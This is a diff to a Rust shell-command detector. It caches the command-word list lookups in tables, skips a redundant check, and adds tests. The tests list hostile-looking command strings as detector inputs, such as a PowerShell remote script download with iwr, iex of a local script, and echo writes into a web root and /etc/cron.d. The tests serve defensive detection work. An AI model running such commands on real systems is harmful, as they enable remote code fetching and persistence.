@@ -20,8 +20,9 @@ pub fn detect(n: &Norm, ctx: InputContext) -> Option<Finding> {
         &n.lower
     };
     let s = deobfuscate(lower);
+    // `special` is pure: on the same text the second call repeats the first.
     let mut r = special(&s)
-        .or_else(|| special(&n.lower))
+        .or_else(|| (s != n.lower).then(|| special(&n.lower)).flatten())
         .or_else(|| positions(&s, ctx));
     if r.is_some_and(|r| r.0 == 2) && obfuscated(&n.lower) {
         r = Some((1, "obfuscated command"));
@@ -86,6 +87,20 @@ fn positions(s: &str, ctx: InputContext) -> Option<(u8, &'static str)> {
     best
 }
 
+/// `CLEAR.contains(&name)`, by table.
+fn is_clear(name: &str) -> bool {
+    static M: std::sync::OnceLock<super::WordMap> = std::sync::OnceLock::new();
+    M.get_or_init(|| super::word_map(&[(CLEAR, 'c')]))
+        .contains_key(name)
+}
+
+/// `WORDY.contains(&name)`, by table.
+fn is_wordy(name: &str) -> bool {
+    static M: std::sync::OnceLock<super::WordMap> = std::sync::OnceLock::new();
+    M.get_or_init(|| super::word_map(&[(WORDY, 'w')]))
+        .contains_key(name)
+}
+
 /// Words that run the command after them.
 const WRAPPERS: &[&str] = &[
     "time", "nohup", "sudo", "env", "xargs", "exec", "command", "builtin", "nice", "strace",
@@ -115,8 +130,8 @@ fn judge_at(rest: &str, pos: Pos, ctx: InputContext) -> Option<(u8, &'static str
     let arg = rest[word_end..].trim_start_matches(|c: char| c.is_whitespace() || c == '<');
     let (had_path, name) = split_path(word);
     let name = name.trim_end_matches(".exe");
-    let clear = CLEAR.contains(&name) || (had_path && glob_match_any(name));
-    let wordy = WORDY.contains(&name);
+    let clear = is_clear(name) || (had_path && glob_match_any(name));
+    let wordy = is_wordy(name);
     if !clear && !wordy {
         return None;
     }
@@ -157,7 +172,7 @@ fn command_word(rest: &str) -> Option<&str> {
         .find(|c: char| c.is_whitespace() || ";|&`$()<>'\"".contains(c))
         .unwrap_or(rest.len());
     let (_, name) = split_path(&rest[..end]);
-    (CLEAR.contains(&name) || WORDY.contains(&name) || name == "cd").then_some(name)
+    (is_clear(name) || is_wordy(name) || name == "cd").then_some(name)
 }
 
 /// `cmd args\n`: a single line ended by a newline, as a shell reads it.
@@ -314,6 +329,35 @@ mod tests {
             "first; then more; done",
         ] {
             assert_ne!(lvl(s), Some(1), "{s}");
+        }
+    }
+
+    #[test]
+    fn guarded_shell_shapes_still_caught() {
+        for s in [
+            "IF/I a==a echo same",
+            "if\texist c:\\pagefile.sys echo there",
+            "if not defined q echo unset",
+            "x iex (get-content c:/t.ps1)",
+            "iwr https://example.net/a.ps1",
+            "x invoke-webrequest -uri y",
+            "for %f in (*.log) do type %f",
+            "echo owned > /var/www/html/x.txt",
+            "printf a 2>>/tmp/q",
+            "Echo Hi >/etc/cron.d/job",
+        ] {
+            assert_eq!(lvl(s), Some(1), "{s}");
+        }
+        assert!(special("gift wrap, deliver after 5pm").is_none());
+    }
+
+    #[test]
+    fn word_tables_match_the_lists() {
+        let mut words: Vec<&str> = [CLEAR, WORDY].concat();
+        words.extend(["", "x", "whoam", "whoamii", "Cat", "cd", "ls.exe"]);
+        for w in words {
+            assert_eq!(is_clear(w), CLEAR.contains(&w), "{w}");
+            assert_eq!(is_wordy(w), WORDY.contains(&w), "{w}");
         }
     }
 }
